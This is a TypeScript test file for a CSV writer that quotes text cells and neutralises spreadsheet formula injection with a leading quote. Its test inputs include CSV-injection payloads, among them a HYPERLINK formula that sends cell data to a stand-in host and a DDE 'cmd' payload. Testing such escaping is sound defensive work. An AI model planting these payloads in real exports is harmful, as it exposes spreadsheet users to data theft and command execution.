// The one CSV writer: every text cell quoted, a formula start (OWASP CSV injection) neutralised
// with a leading ', numbers of our own numeric fields left as numbers.
import { describe, expect, test } from 'bun:test'
import { csvCell, csvRow } from '../../src/platform/csv/index.ts'

describe('CSV cells', () => {
  test.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
    ['@SUM(1+1)', `"'@SUM(1+1)"`],
    ['+1+cmd|\' /C calc\'!A0', `"'+1+cmd|' /C calc'!A0"`],
    ['-2+3', `"'-2+3"`],
    ['-5', `"'-5"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['plain, text', '"plain, text"'],
    ['a = b', '"a = b"'],
    ['', '""'],
  ])('text %j is written as %s', (value, cell) => {
    expect(csvCell(value)).toBe(cell)
  })

  test('numbers, booleans and missing values are written bare', () => {
    expect([csvCell(-5), csvCell(0.0013), csvCell(true), csvCell(null), csvCell(undefined), csvCell(Number.NaN)]).toEqual(['-5', '0.0013', 'true', '', '', ''])
  })

  test('a row joins its cells with commas and ends in CRLF', () => {
    expect(csvRow(['id', -1, null, '@x'])).toBe(`"id",-1,,"'@x"\r\n`)
  })
})
